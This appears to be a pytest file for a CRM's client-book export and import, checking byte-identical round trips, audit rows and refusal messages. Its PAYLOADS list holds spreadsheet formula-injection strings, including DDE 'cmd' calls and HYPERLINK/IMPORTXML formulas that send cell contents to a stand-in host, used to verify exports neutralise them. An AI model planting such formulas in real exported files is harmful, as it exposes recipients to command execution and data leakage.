"""What leaves is what was there, and comes back the same (catalogue F4)."""

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts.models import AuditEvent
from agencyam.tenancy.context import tenant_context
from clients.demo.book import generate_book
from clients.exchange.book_format import FILES
from clients.exchange.exporting import export_book
from clients.exchange.sinks import CannotWriteBook
from clients.exchange.tables import table_of
from clients.exchange.types import Email, Ident, Tags, Text
from clients.models import Client, Contact, Goal, Message, Touchpoint
from tests import catalogue
from tests.clients.exchange.books import load, write_book
from tests.factories.clients import ClientFactory, TouchpointFactory

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")
PAYLOADS = [
    *(f"{sign}{rest}" for sign in SIGNS for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", "", " x", '"a"', "'")),
    *(f"{quotes}{sign}HYPERLINK(A1)" for quotes in ("'", "''", "'''") for sign in SIGNS),
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "=IMPORTXML(CONCAT(\"http://x.example\"),\"//a\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+49 30 12345",
    "-1",
    "- expensive\n- slow",
    *(f"{sign * length}{number}" for sign in SIGNS[:4] for length in (1, 2, 3, 5) for number in range(8)),
]  # fmt: skip


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    folder = tmp_path_factory.mktemp("demo")
    generate_book(
        folder, profile="northwind", seed=3, clients=10, members=3, months=8, until=date(2026, 11, 22)
    )
    return folder


def contents(folder):
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir())}


@pytest.mark.parametrize("suffix", ["", ".zip", ".xlsx"])
def test_export_import_export_gives_the_same_bytes(agency, other_agency, demo, tmp_path, suffix):
    load(demo)
    export_book(path=tmp_path / "first", by=None)
    export_book(path=tmp_path / f"moved{suffix}", by=None)

    with tenant_context(other_agency):
        load(tmp_path / f"moved{suffix}")
        export_book(path=tmp_path / "second", by=None)

    assert contents(tmp_path / "second") == contents(tmp_path / "first")


def test_an_export_holds_every_row_of_the_book_it_came_from(agency, demo, tmp_path):
    load(demo)

    counts = export_book(path=tmp_path / "out", by=None)

    for spec in FILES:
        with (demo / spec.name).open(encoding="utf-8", newline="") as stream:
            rows = list(csv.DictReader(stream))
        with (tmp_path / "out" / spec.name).open(encoding="utf-8", newline="") as stream:
            exported = list(csv.DictReader(stream))
        key = [lambda row, name=name: row[name] for name in spec.key]
        assert counts[spec.name] == len(rows)
        assert sorted(exported, key=lambda row: [part(row) for part in key]) == sorted(
            rows, key=lambda row: [part(row) for part in key]
        )


def test_what_the_format_does_not_publish_comes_back_too(agency, other_agency, tmp_path):
    client = ClientFactory(book_id="c1", archived_on=date(2025, 6, 1), tags=["a b", "=c"])
    TouchpointFactory(client=client, occurred_at=datetime(2025, 3, 1, 9, 0, 0, 123456, tzinfo=UTC))
    export_book(path=tmp_path / "book", by=None)

    with tenant_context(other_agency):
        load(tmp_path / "book")

        copy = Client.objects.get(book_id="c1")
        assert (copy.archived_on, copy.tags) == (date(2025, 6, 1), ["a b", "=c"])
        assert copy.touchpoints.get().occurred_at == datetime(2025, 3, 1, 9, 0, 0, 123456, tzinfo=UTC)


def test_an_empty_agency_exports_headers(agency, tmp_path):
    counts = export_book(path=tmp_path / "book", by=None)

    assert set(counts.values()) == {0}
    assert (tmp_path / "book" / "clients.csv").read_text("utf-8").startswith("client_id,name,tier,")


def test_formulas_in_every_text_cell_are_texts_outside_and_the_same_inside(agency, other_agency, tmp_path):
    """Catalogue F4: payloads in every text column, exported, parsed, imported."""
    texts = [
        (spec, column)
        for spec in FILES
        for column in spec.columns
        if isinstance(column.type, Text) and not column.type.is_line
    ]
    client = ClientFactory(book_id="c1")
    for number, payload in enumerate(PAYLOADS):
        line = " ".join(payload.split()) or "x"
        Contact.objects.create(book_id=f"-{number}", client=client, name=line, job_title=line)
        Touchpoint.objects.create(
            book_id=f"={number}", client=client, occurred_at=datetime(2025, 1, 1, tzinfo=UTC), summary=payload
        )
    export_book(path=tmp_path / "book", by=None)
    export_book(path=tmp_path / "book.xlsx", by=None)

    files = [(tmp_path / "book" / f"{name}.csv").read_text("utf-8") for name in ("contacts", "touchpoints")]
    rows = [row for text in files for row in csv.reader(io.StringIO(text, newline=""))]
    formulas = sum(cell.startswith(SIGNS) for row in rows for cell in row)
    sheet_formulas = sum(
        cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(SIGNS))
        for sheet in openpyxl.load_workbook(tmp_path / "book.xlsx")
        for row in sheet.iter_rows()
        for cell in row
    )
    before = [
        list(model.objects.order_by("book_id").values_list("book_id", *fields)) for model, fields in KEPT
    ]
    with tenant_context(other_agency):
        load(tmp_path / "book.xlsx")
        after = [
            list(model.objects.order_by("book_id").values_list("book_id", *fields)) for model, fields in KEPT
        ]

    assert len(texts) >= 4
    catalogue.report(
        "F4",
        ok=formulas + sheet_formulas == 0 and after == before,
        payloads=len(PAYLOADS),
        formulas=formulas + sheet_formulas,
        is_round_trip_equal=after == before,
    )


KEPT = ((Contact, ("name", "job_title")), (Touchpoint, ("summary",)))


def test_every_column_that_holds_words_neutralises_them():
    words = [
        (spec.name, column.name)
        for spec in FILES
        for column in spec.columns
        if table_of(spec.name).field(column).get_internal_type() in ("CharField", "TextField", "EmailField")
        and isinstance(column.type, Text | Ident | Email | Tags)
        and not column.type.format("=1").startswith("'")
    ]

    assert words == []


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    body=st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=60),
    title=st.text(st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1, max_size=60),
    suffix=st.sampled_from(["", ".xlsx"]),
)
def test_any_text_comes_back_to_the_letter(agency, tmp_path_factory, body, title, suffix):
    folder = tmp_path_factory.mktemp("texts")
    Goal.objects.all().delete()
    Touchpoint.objects.all().delete()
    client, _made = Client.objects.get_or_create(book_id="c1", defaults={"name": "Alder"})
    Touchpoint.objects.create(
        book_id="t1", client=client, occurred_at=datetime(2025, 1, 1, tzinfo=UTC), summary=body
    )
    if title.strip():
        Goal.objects.create(book_id="g1", client=client, title=title)
    export_book(path=folder / f"book{suffix}", by=None)
    Touchpoint.objects.update(summary="changed")
    Goal.objects.update(title="changed")

    load(folder / f"book{suffix}")

    assert Touchpoint.objects.get().summary == body
    if title.strip():
        assert Goal.objects.get().title == title


def test_an_export_leaves_an_audit_row(agency, tmp_path):
    ClientFactory()

    export_book(path=tmp_path / "book.zip", by=None)

    assert AuditEvent.objects.get(action="book.export").changes["files"]["clients.csv"] == 1


def test_a_zip_of_the_same_book_has_the_same_bytes(agency, tmp_path):
    ClientFactory()

    export_book(path=tmp_path / "one.zip", by=None)
    export_book(path=tmp_path / "two.zip", by=None)

    assert (tmp_path / "one.zip").read_bytes() == (tmp_path / "two.zip").read_bytes()


def test_an_older_export_is_replaced_and_other_files_stay(agency, tmp_path):
    out = tmp_path / "book"
    export_book(path=out, by=None)
    (out / "readme.txt").write_text("mine")
    ClientFactory(book_id="c1")

    export_book(path=out, by=None)

    assert (out / "readme.txt").read_text() == "mine"
    assert "c1," in (out / "clients.csv").read_text("utf-8")


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("nowhere/book", "The folder {folder}/nowhere is not there."),
        ("file.csv", "{folder}/file.csv is a file; a book goes into a folder, a .zip or an .xlsx."),
        ("folder.zip", "{folder}/folder.zip is a folder."),
    ],
)
def test_a_place_where_nothing_can_be_written_is_refused(agency, tmp_path, name, sentence):
    (tmp_path / "file.csv").write_text("x")
    (tmp_path / "folder.zip").mkdir()

    with pytest.raises(CannotWriteBook) as refusal:
        export_book(path=tmp_path / name, by=None)

    assert str(refusal.value) == sentence.format(folder=tmp_path)


def test_a_text_that_no_workbook_can_hold_is_refused_and_nothing_is_left_behind(agency, tmp_path):
    TouchpointFactory(summary="x" * 40_000)

    with pytest.raises(CannotWriteBook) as refusal:
        export_book(path=tmp_path / "book.xlsx", by=None)

    assert "touchpoints has a text of more than 32,767 characters" in str(refusal.value)
    assert list(tmp_path.iterdir()) == []


def test_internal_messages_keep_their_body(agency, other_agency, tmp_path):
    book = write_book(
        tmp_path / "in",
        requests="request_id,client_id,opened_at\nq1,c1,2025-01-01T09:00Z\n",
        messages='message_id,request_id,sent_at,direction,is_public,body\nx1,q1,2025-01-01T09:00Z,outbound,no,"a\r\nb"\n',
    )
    load(book)
    export_book(path=tmp_path / "out", by=None)

    with tenant_context(other_agency):
        load(tmp_path / "out")

        assert Message.objects.values_list("is_public", "body").get() == (False, "a\r\nb")
